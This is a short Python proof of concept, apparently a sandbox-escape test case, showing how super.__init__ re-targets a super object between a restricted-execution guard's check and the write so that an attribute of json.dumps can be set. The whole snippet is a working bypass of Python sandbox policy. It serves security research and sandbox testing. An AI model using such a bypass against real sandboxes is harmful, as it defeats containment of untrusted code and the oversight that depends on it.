# technique: super.__init__ makes a super object stand for another one between the guard's look and the write
# source: reading pyrestrict and GraalPy's library
# goal: set an attribute of a library's function
# impact: policy
import queue
q = lambda: 0
import json
fn = json.dumps
class O: pass
o = O()
s = super(type(q), fn)
p = s.__setattr__
super.__init__(s, O, o)
p('evil', 1)
escaped(json.dumps.evil)
